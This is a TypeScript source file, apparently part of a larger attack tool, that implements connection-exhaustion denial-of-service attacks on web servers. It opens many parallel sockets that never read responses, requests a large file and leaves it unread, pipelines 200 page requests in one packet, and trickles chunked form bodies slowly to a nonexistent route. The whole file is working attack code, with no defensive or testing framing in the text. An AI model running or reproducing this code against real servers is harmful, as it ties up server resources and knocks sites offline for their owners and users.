import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { count, type Target } from './attack.ts'

type Speaking = { first: string; every?: { ms: number; text: string } }

/** Opens `parallel` connections that never read, and reopens each when it is closed. */
async function hold(target: Target, { first, every }: Speaking): Promise<void> {
  const { hostname, port } = new URL(target.url)
  const deadline = Date.now() + target.seconds * 1_000
  const lane = async () => {
    while (Date.now() < deadline) {
      const socket = connect(Number(port), hostname)
      socket.pause()
      socket.on('error', () => undefined)
      socket.write(first)
      const timer = every && setInterval(() => socket.write(every.text), every.ms)
      const closed = new Promise((done) => socket.once('close', () => done('closed')))
      const end = await Promise.race([closed, sleep(Math.max(0, deadline - Date.now()), 'open')])
      clearInterval(timer)
      socket.destroy()
      count(String(end))
      await sleep(50)
    }
  }
  await Promise.all(Array.from({ length: target.parallel }, lane))
}

/** Requests a large file and never reads it. */
export async function unreadDownloads(target: Target): Promise<void> {
  const { host } = new URL(target.url)
  await hold(target, { first: `GET ${target.fileUrl} HTTP/1.1\r\nhost: ${host}\r\n\r\n` })
}

/** Sends 200 pipelined page requests in one packet and never reads. */
export async function unreadPipelines(target: Target): Promise<void> {
  const { host } = new URL(target.url)
  await hold(target, { first: `GET /pricing HTTP/1.1\r\nhost: ${host}\r\n\r\n`.repeat(200) })
}

/** Anonymous forms to an unknown route, at 1.1 KB a second. */
export async function trickledForms(target: Target): Promise<void> {
  const { host } = new URL(target.url)
  const head = 'content-type: multipart/form-data; boundary=b\r\ntransfer-encoding: chunked'
  await hold(target, {
    first: `POST /nothing HTTP/1.1\r\nhost: ${host}\r\n${head}\r\n\r\n`,
    every: { ms: 1_000, text: `44c\r\n${'x'.repeat(1_100)}\r\n` },
  })
}
